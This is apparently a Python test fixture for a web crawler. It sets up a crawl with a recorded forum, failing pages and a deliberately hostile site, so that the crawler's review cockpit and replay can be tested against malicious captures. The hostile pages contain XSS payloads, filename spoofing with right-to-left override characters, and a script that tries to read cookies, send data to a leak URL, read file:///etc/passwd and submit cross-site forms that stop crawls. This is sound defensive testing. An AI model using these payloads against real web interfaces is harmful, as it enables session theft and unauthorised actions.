"""A small crawl that has something for every page of the cockpit: a forum, failures, and a site that means ill."""

import json
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

from aahcrawler.annotations.judgements import Grade, Said, Seen, Wanted, draw, frame_of, judge, keep
from aahcrawler.crawl_collections import Collection, CollectionFile
from aahcrawler.layout import LOG
from aahcrawler.schedule.rhythms import Due
from aahcrawler.schedule.schedule_file import Schedule
from aahcrawler.schedule.visit_log import Found, Outcome, VisitLog, Wish
from aahcrawler.service.views.proposed_pages import proposals_file
from examples.serve import WORLD
from examples.serve import Site as Recorded
from offline.enrichment.enriching import enrich
from offline.enrichment.steps import chosen_steps
from offline.selection.keep_proposals import as_lines, keep_proposals
from tests.crawl.crawling import aah
from tests.crawl.site import Reply, Site, html, links
from tests.crawl.world import define, network
from tests.enrichment.annotators import COPIES, FREQUENT, WORDS

CRAWL = "shown"
FORUM, HOSTILE = "harbourforum.example", "hostile.test"
THREAD = "/viewtopic.php?t=13"
EDITED = "A word that was not there before."
HTML = {"Content-Type": "text/html; charset=utf-8"}
TURNED = "\u202egnp.exe\u202c"
LONG = "Donaudampfschifffahrt" * 40
MARKUP = "<img src=x onerror=\"document.title='ran'\"><script>document.title='ran'</script>"
STRANGE = f"{MARKUP}{TURNED}\x1b[31m\x07\u2066{LONG}\"'&lt;"
ENRICHED = ("language", "entities", "consolidation", "opinions", "events", "joined-events", "conversations")
_LIMIT = 26
_A_SEED_GAVE_NOTHING = 3


@dataclass(frozen=True, slots=True)
class Shown:
    """A crawl that was crawled twice, and where its folder is."""

    folder: Path
    site: Site


def crawled(place: Path, site: Site, cockpit: str, replay: str) -> Shown:
    """Crawl the site twice, with changes in between; its hostile pages know the origins of a cockpit and its replay."""
    folder = place / CRAWL
    site.pages |= hostile_pages(cockpit, replay, f"{site.url}leak")
    forum = Recorded.read(WORLD / FORUM)
    site.other = lambda path: _recorded(forum, path)
    icd = define(
        place.parent,
        [*(f"http://{HOSTILE}{path}" for path in ("/", "/attack", "/down")), f"http://{FORUM}{THREAD}"],
        id=CRAWL,
        title=f"Flood {TURNED} {LONG[:120]}",
        topic={"keywords": ["flood", "storm surge", "dyke", "sea wall"], "entities": ["Varhaven"]},
        limits={"pages": _LIMIT, "requisites_per_page": 0},
        politeness={"retries": "0"},
        scope={"sites": "seeds", "deny": ["/never/"]},
        network=network(site, HOSTILE, FORUM),
        output=str(folder),
    )
    for _ in range(2):
        ended = aah("crawl", icd)
        assert ended.code in (0, _A_SEED_GAVE_NOTHING), ended.err
        site.pages[f"//{FORUM}{THREAD}"] = _edited(forum)
        site.pages[f"//{HOSTILE}/"] = Reply(_hostile_front(cockpit, "Changed"), headers=HTML)
    list(enrich(folder, (*chosen_steps(ENRICHED), WORDS, FREQUENT, COPIES)))
    proposals = proposals_file(folder)
    proposals.parent.mkdir(mode=0o700)
    proposals.write_text(as_lines(keep_proposals(folder, 100)), "utf-8")
    frame, number = frame_of(folder, {})
    sample = draw(frame, Wanted(most=10), number, f"anna {TURNED}")
    keep(folder, sample)
    for by, grade in (("anna", Grade.RELEVANT), ("ben", Grade.NOT_RELEVANT)):
        judge(folder, by, *(Said(Seen(page.url), grade, STRANGE[:200], sample.id) for page in sample.drawn[:3]))
    with (folder / LOG).open("a", encoding="utf-8") as log:
        log.write(f"2026-01-02T03:04:05.000Z WARNING crawl.response.handler http://{HOSTILE}/ {STRANGE}\n")
    made = Collection(title=f"Harbours {TURNED} {LONG[:120]}", creator=("City Archive",), crawls=(CRAWL, "was-here"))
    CollectionFile(place / "harbours").create(made)
    return Shown(folder, site)


def scheduled(folder: Path) -> Path:
    """Write a schedule whose crawls have been visited, have failed, and are due; return its file."""
    path, now = folder / "schedule.yaml", datetime.now(UTC)
    entries = [f"  {name}: {{definition: {name}.yaml, every: 6 h}}" for name in (CRAWL, "town-hall", "z" * 64)]
    path.write_text("\n".join(["crawls:", *entries, "  news: {definition: news.yaml, at: ['06:00']}"]), "utf-8")
    with VisitLog.opened(path.with_suffix(".sqlite")) as log:
        schedule = Schedule.load(path)
        log.added_at(schedule.crawls, now - timedelta(days=2))
        for number, outcome in enumerate(Outcome, 1):
            at = now - timedelta(hours=40 - 6 * number)
            visit = log.begin(CRAWL, Due(at, number), at, folder, "")
            log.attempted(visit.number, at, -9, TURNED)
            log.end(visit.number, at, outcome, f"{TURNED} {LONG}", Found(number, pages=1200, changed=7, gone=1))
        log.begin("town-hall", None, now, folder, "")
        log.wish(Wish.PAUSE, "news", now)
    return path


def _recorded(forum: Recorded, path: str) -> Reply:
    answer = forum.answer(path)
    headers = {"Content-Type": answer.content_type, **({"Location": answer.location} if answer.location else {})}
    return Reply(answer.body, answer.status, headers)


def _edited(forum: Recorded) -> Reply:
    body = forum.answer(THREAD).body
    at = body.index(b'<div class="content">') + len(b'<div class="content">')
    return Reply(body[:at] + EDITED.encode() + b" " + body[at:], headers=HTML)


def hostile_pages(cockpit: str, replay: str, leak: str) -> dict[str, Reply]:
    """Return the pages of a site that means ill to whoever looks at its captures in a cockpit."""
    there = f"//{HOSTILE}"
    return {
        f"{there}/": Reply(_hostile_front(cockpit, "First"), headers=HTML),
        f"{there}/attack": Reply(_attack(cockpit, replay, leak), headers=HTML),
        f"{there}/down": Reply(b"<h1>Down</h1>", 404, HTML),
        f"{there}/broken": Reply(b"<h1>Broken</h1>", 500, HTML),
        f"{there}/{LONG}": html(STRANGE.replace("<", "&lt;"), "<p>The flood of the harbour.</p>"),
        **{f"{there}/cal/{n}": html(f"Day {n}", "<p>The flood.</p>" + links(f"/cal/{n + 1}")) for n in range(40)},
    }


def _hostile_front(cockpit: str, word: str) -> bytes:
    article = {
        "@context": "https://schema.org",
        "@type": "NewsArticle",
        "headline": f"Flood {STRANGE}",
        "author": {"@type": "Person", "name": f"Ann {TURNED} <b>Vos</b>"},
        "datePublished": "2026-01-02T03:04:05Z",
        "articleBody": f"{word}: the flood at the sea wall. {STRANGE}",
    }
    data = json.dumps(article).replace("<", "\\u003c")
    title = STRANGE.replace("<", "&lt;")
    targets = ("/attack", "/down", "/broken", f"/{LONG}", "/cal/0", "/never/1", "/a?q=%E2%80%AEgnp.exe%3Cscript%3E")
    page = (
        f'<!doctype html><html lang="en"><head><title>{title}</title>'
        f'<script type="application/ld+json">{data}</script></head><body><h1>{title}</h1><article>'
        f"<p>{word}: the flood at the sea wall of the harbour, and a storm surge over the dyke. {title}</p></article>"
        f'{links(*targets)}<a href="{cockpit}/sign-out">flood</a><a href="http://elsewhere.test/flood">flood</a>'
    )
    return f"{page}</body></html>".encode()


def _attack(cockpit: str, replay: str, leak: str) -> bytes:
    """Return a page that tries to reach the cookie, the cockpit, the network and the disk from within its frame."""
    urls = (f"{cockpit}/crawls/{CRAWL}", f"{cockpit}/v1/crawls", leak, "file:///etc/passwd")
    tries = "".join(
        f"fetch('{url}', {{credentials: 'include', mode: 'no-cors'}}).then(() => document.title = 'ran');"
        f"new Image().src = '{url}?image';navigator.sendBeacon('{url}?beacon');new EventSource('{url}');"
        f"try {{ new WebSocket('{url.replace('http', 'ws')}') }} catch (e) {{}}"
        for url in urls
    )
    script = (
        f"document.title = 'ran'; top.document.title = document.cookie; {tries} top.location = '{cockpit}/new';"
        f"parent.postMessage('x', '*'); window.open('{cockpit}/new'); navigator.serviceWorker.register('/sw.js');"
    )
    framed = "".join(
        f'<iframe src="{url}"></iframe><object data="{url}"></object><embed src="{url}">'
        f'<img src="{url}?img"><link rel="stylesheet" href="{url}?css"><video src="{url}?video"></video>'
        for url in (*urls, f"{cockpit}/static/icon.svg", f"{replay}/", "javascript:top.location='about:blank'")
    )
    return f"""<!doctype html><html lang="en"><head><title>Attack</title>
<base href="{cockpit}/" target="_top"><script>{script}</script><script src="{cockpit}/static/cockpit.js"></script>
<style>@import "{cockpit}/static/cockpit.css"; body {{ background: url({cockpit}/crawls) }}</style></head>
<body onload="{script.replace('"', "&quot;")}"><p id="text">The flood came over the dyke.</p>
<form id="form" method="post" action="{cockpit}/crawls/{CRAWL}/acts/stop" target="_top"><input name="secret" value="x">
<button id="send">Send</button></form><form id="enter" method="post" action="{replay}/enter" target="_top"><input
name="ticket" value="x"><button id="ticket">Send</button></form>
<a id="out" href="{cockpit}/new" target="_top">out</a> <a id="blank" href="{cockpit}/new" target="_blank">new</a>
<a id="js" href="javascript:top.location='{cockpit}/new'">js</a>
{framed}</body></html>""".encode()
